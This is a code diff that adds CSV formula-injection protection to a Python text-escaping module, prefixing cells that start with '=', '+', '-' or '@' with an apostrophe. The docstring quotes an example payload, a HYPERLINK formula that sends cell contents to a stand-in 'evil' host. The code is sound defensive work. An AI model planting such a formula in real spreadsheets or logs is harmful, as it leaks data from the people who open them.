@@ -23,13 +23,15 @@ The policy (README, "Text from outside"):
   ``unescape_text(escape_text(s)) == s`` for every ``s`` that is a decoding of
   bytes (``b.decode("utf-8", "surrogateescape")``), which is all the OS,
   psutil and the driver can hand us.
+- **Spreadsheet cells** (every CSV nvtopy writes): :func:`formula_safe` on top of
+  :func:`escape_text`: a cell a spreadsheet would run as a formula gets a leading ``'``.
 """
 
 from __future__ import annotations
 
 import re
 
-__all__ = ["escape_text", "safe_text", "unescape_bytes", "unescape_text"]
+__all__ = ["FORMULA_START", "escape_text", "formula_safe", "safe_text", "unescape_bytes", "unescape_text"]
 
 # C0 controls, DEL and C1 controls -> visible escapes; tab and newline get short forms.
 _TABLE: dict[int, str] = {code: f"\\x{code:02x}" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))}
@@ -100,3 +102,20 @@ def unescape_text(text: str | None) -> str | None:
     if text is None or "\\" not in text:
         return text
     return unescape_bytes(text).decode("utf-8", "surrogateescape")
+
+
+FORMULA_START = ("=", "+", "-", "@")
+"""What makes a cell a formula to Excel, LibreOffice and Google Sheets (OWASP's "CSV injection"); a tab or
+a carriage return, the other two, never starts an escaped cell (:func:`escape_text` writes them as escapes)."""
+
+
+def formula_safe(text: str) -> str:
+    """A CSV text cell (already escaped) that a spreadsheet shows as text, never runs: ``'`` before a formula start.
+
+    Why: a process named ``=HYPERLINK("http://evil/?"&A1,"ok")`` or a command line starting with ``@SUM`` is a
+    formula to whoever opens the log in a spreadsheet. The ``'`` is what the spreadsheets themselves use to
+    say "text"; a reader that is not a spreadsheet drops a leading ``'`` from a cell that starts ``'=``,
+    ``'+``, ``'-`` or ``'@`` to get the text back. Numbers are written as numbers, not through here, so a
+    negative figure stays a number.
+    """
+    return "'" + text if text.startswith(FORMULA_START) else text
